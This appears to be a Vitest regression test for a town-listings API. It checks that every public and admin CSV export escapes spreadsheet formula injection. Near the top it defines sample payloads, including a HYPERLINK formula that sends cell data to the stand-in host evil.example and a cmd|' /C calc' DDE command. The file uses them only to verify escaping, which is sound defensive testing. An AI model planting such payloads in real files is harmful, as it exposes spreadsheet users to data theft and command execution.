import { beforeAll, describe, expect, it } from 'vitest';
import { ListPageSchema } from '../../worker/schemas/lists.ts';
import { SourcePageSchema } from '../../worker/schemas/sources.ts';
import { HistorySchema, TownSchema } from '../../worker/schemas/towns.ts';
import { csvRecords, parseCsv } from '../csv-reader.ts';
import { adminHeaders, fullAnswers, get, getJson, getParsed, JSON_BODY, request, submit } from '../helpers.ts';

// Text an editor might type that a spreadsheet would run as a formula (OWASP "CSV injection").
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")';
const SUM = '@SUM(1+1)';
const CMD = "-2+3+cmd|' /C calc'!A0";
const PLUS = '+1+1';

const LIST = 'csv-injection-2024';
const TOWN = 'beijing-csvceshizhen';
const ADMIN = adminHeaders('admin', JSON_BODY);

async function admin(method: string, path: string, body: unknown): Promise<any> {
  const res = await request(method, path, { headers: ADMIN, body: JSON.stringify(body) });
  const json = await res.json<any>();
  if (res.status >= 300) throw new Error(`${method} ${path}: ${res.status} ${JSON.stringify(json)}`);
  return json;
}

async function csvOf(path: string, headers: Record<string, string> = {}): Promise<string> {
  const res = await get(path, headers);
  expect(res.status, path).toBe(200);
  expect(res.headers.get('Content-Type'), path).toContain('text/csv');
  return res.text();
}

const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

/** Cells a spreadsheet would evaluate: text starting with = + - @, tab or CR (numbers are numbers, not formulas). */
function formulaCells(text: string): string[] {
  return parseCsv(text)
    .slice(1)
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell));
}

let sourceId: string;
let wrongId: number;
let fixId: number;

beforeAll(async () => {
  sourceId = (
    await admin('POST', '/api/v1/admin/sources', {
      title: HYPERLINK,
      document_number: SUM,
      issuer: PLUS,
      published_on: '2024-05-20',
      note: CMD,
    })
  ).id;
  // Official count 0 and one town: its `missing` is -1, a number we emit that must stay a number.
  await admin('POST', '/api/v1/admin/lists', {
    id: LIST,
    name: SUM,
    name_en: CMD,
    level: 'provincial',
    kind: 'named',
    province: '北京市',
    source_id: sourceId,
    official_count: 0,
    note: HYPERLINK,
  });
  await admin('POST', '/api/v1/admin/towns', {
    id: TOWN,
    name: HYPERLINK,
    name_pinyin: 'csv ce shi zhen',
    province: '-1+2市',
    city: PLUS,
    county: SUM,
    note: CMD,
  });
  await admin('POST', `/api/v1/admin/lists/${LIST}/towns`, {
    town_id: TOWN,
    listed_as: CMD,
    status: 'named',
    effective_date: '2024-05-20',
    source_id: sourceId,
    status_raw: PLUS,
    note: SUM,
  });
  wrongId = (
    await admin('POST', '/api/v1/admin/events', {
      town_id: TOWN,
      list_id: LIST,
      status: 'warned',
      effective_date: '2024-06-01',
      source_id: sourceId,
      status_raw: SUM,
      note: HYPERLINK,
    })
  ).id;
  fixId = (
    await admin('POST', '/api/v1/admin/events', {
      town_id: TOWN,
      list_id: LIST,
      status: 'retained',
      effective_date: '2024-06-01',
      source_id: sourceId,
      note: CMD,
      supersedes: wrongId,
    })
  ).id;
  // Ten responses to the town (a group is published from 10), so that its province is a group of the satisfaction CSV
  // and its free text is in the export.
  const answers = await fullAnswers('public');
  for (const [id, value] of Object.entries(answers))
    if (typeof value === 'string' && value.includes('test comment')) answers[id] = HYPERLINK;
  for (let i = 0; i < 10; i++) {
    const res = await submit('public', { town_id: TOWN, answers, consent: { participation: true } }, { ip: `192.0.2.${i + 1}` });
    expect(res.status).toBe(201);
  }
});

describe('CSV formula injection (issue 11, finding 4)', () => {
  const PUBLIC_CSVS = [
    '/api/v1/sources?format=csv',
    '/api/v1/lists?format=csv',
    `/api/v1/towns?format=csv&list=${LIST}`,
    `/api/v1/lists/${LIST}/towns?format=csv`,
    `/api/v1/towns/${TOWN}/history?format=csv`,
    '/api/v1/stats?group_by=list&format=csv',
    '/api/v1/stats?group_by=province&format=csv',
    '/api/v1/satisfaction?group_by=province&format=csv',
    '/api/v1/satisfaction?group_by=list&format=csv',
    `/api/v1/towns/${TOWN}/satisfaction?format=csv`,
    '/api/v1/reported-figures?format=csv',
  ];

  it('no cell of any public CSV starts a formula, by ?format=csv or by Accept: text/csv', async () => {
    for (const path of PUBLIC_CSVS) {
      expect(formulaCells(await csvOf(path)), path).toEqual([]);
      const accept = path.replace(/format=csv&?/, '').replace(/[?&]$/, '');
      expect(formulaCells(await csvOf(accept, { Accept: 'text/csv' })), `${accept} (Accept)`).toEqual([]);
    }
  });

  it("keeps the editor's text readable behind a leading quote", async () => {
    const source = csvRecords(await csvOf('/api/v1/sources?format=csv')).find((s) => s.id === sourceId)!;
    expect(source).toMatchObject({ title: `'${HYPERLINK}`, document_number: `'${SUM}`, issuer: `'${PLUS}`, note: `'${CMD}` });
    const list = csvRecords(await csvOf('/api/v1/lists?format=csv')).find((l) => l.id === LIST)!;
    expect(list).toMatchObject({ name: `'${SUM}`, name_en: `'${CMD}`, note: `'${HYPERLINK}` });
    const [town] = csvRecords(await csvOf(`/api/v1/lists/${LIST}/towns?format=csv`));
    expect(town).toMatchObject({ id: TOWN, name: `'${HYPERLINK}`, province: "'-1+2市", city: `'${PLUS}`, county: `'${SUM}` });
    const history = csvRecords(await csvOf(`/api/v1/towns/${TOWN}/history?format=csv`));
    expect(history.map((e) => [e.status_raw, e.note])).toEqual([
      [`'${PLUS}`, `'${SUM}`],
      [`'${SUM}`, `'${HYPERLINK}`],
      ['', `'${CMD}`],
    ]);
    const byList = csvRecords(await csvOf('/api/v1/stats?group_by=list&format=csv')).find((g) => g.key === LIST)!;
    expect(byList.label).toBe(`'${SUM}`);
    const byProvince = csvRecords(await csvOf('/api/v1/satisfaction?group_by=province&format=csv'));
    expect(byProvince.map((r) => r.key)).toContain("'-1+2市");
  });

  it('leaves the numbers we emit as numbers: a negative gap stays -1', async () => {
    const list = csvRecords(await csvOf('/api/v1/lists?format=csv')).find((l) => l.id === LIST)!;
    expect(list.missing).toBe('-1');
    const byList = csvRecords(await csvOf('/api/v1/stats?group_by=list&format=csv')).find((g) => g.key === LIST)!;
    expect(byList).toMatchObject({ official_count: '0', missing: '-1' });
  });

  it('neutralises the admin raw-responses export too', async () => {
    const text = await csvOf('/api/v1/admin/surveys/public/responses?format=csv', adminHeaders('admin'));
    expect(formulaCells(text)).toEqual([]);
    const mine = csvRecords(text).find((r) => r.town_id === TOWN)!;
    expect(Object.values(JSON.parse(mine.answers!))).toContain(HYPERLINK);
  });

  it('changes nothing in the JSON', async () => {
    const { body: sources } = await getParsed(SourcePageSchema, '/api/v1/sources');
    expect(sources.items.find((s: any) => s.id === sourceId)).toMatchObject({
      title: HYPERLINK,
      document_number: SUM,
      issuer: PLUS,
      note: CMD,
    });
    const { body: town } = await getParsed(TownSchema, `/api/v1/towns/${TOWN}`);
    expect(town).toMatchObject({ name: HYPERLINK, province: '-1+2市', city: PLUS, county: SUM, note: CMD });
    const { body: lists } = await getParsed(ListPageSchema, '/api/v1/lists');
    expect(lists.items.find((l: any) => l.id === LIST)).toMatchObject({ name: SUM, name_en: CMD, missing: -1 });
  });
});

describe('CSVs carry what their JSON says about validity (issue 11, the contract)', () => {
  it('the history CSV says which event corrects which, and when it was recorded', async () => {
    const { body } = await getParsed(HistorySchema, `/api/v1/towns/${TOWN}/history`);
    const rows = csvRecords(await csvOf(`/api/v1/towns/${TOWN}/history?format=csv`));
    expect(rows.map((r) => [r.id, r.supersedes, r.superseded_by, r.recorded_at])).toEqual(
      body.items.map((e: any) => [
        String(e.id),
        e.supersedes === null ? '' : String(e.supersedes),
        e.superseded_by === null ? '' : String(e.superseded_by),
        e.recorded_at ?? '',
      ]),
    );
    const wrong = rows.find((r) => r.id === String(wrongId))!;
    expect(wrong.superseded_by).toBe(String(fixId));
    expect(rows.find((r) => r.id === String(fixId))!.supersedes).toBe(String(wrongId));
    expect(wrong.recorded_at).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    expect(rows.map((r) => r.scheduled)).toEqual(body.items.map((e: any) => String(e.scheduled)));
  });

  // Every plain field of the JSON item is a column of its CSV (nested objects are flattened by their own columns),
  // so a field that says whether a row counts cannot be left out of the spreadsheet.
  const PAIRS: [json: string, csv: string, items: (body: any) => any[]][] = [
    [`/api/v1/towns/${TOWN}/history`, `/api/v1/towns/${TOWN}/history?format=csv`, (b) => b.items],
    ['/api/v1/towns?limit=5', '/api/v1/towns?format=csv', (b) => b.items],
    ['/api/v1/lists', '/api/v1/lists?format=csv', (b) => b.items],
    ['/api/v1/sources', '/api/v1/sources?format=csv', (b) => b.items],
    ['/api/v1/reported-figures', '/api/v1/reported-figures?format=csv', (b) => b.items],
    ['/api/v1/stats?group_by=list', '/api/v1/stats?group_by=list&format=csv', (b) => b.groups],
  ];

  it('every scalar field of the JSON items is a CSV column', async () => {
    for (const [jsonPath, csvPath, items] of PAIRS) {
      const { body } = await getJson(jsonPath);
      const header = parseCsv(await csvOf(csvPath))[0]!;
      const entries = items(body).flatMap((item) => Object.entries(item));
      const nested = new Set(entries.filter(([, v]) => v !== null && typeof v === 'object').map(([k]) => k));
      const scalars = new Set(entries.map(([k]) => k).filter((k) => !nested.has(k)));
      expect(
        [...scalars].filter((k) => !header.includes(k)),
        csvPath,
      ).toEqual([]);
    }
  });
});
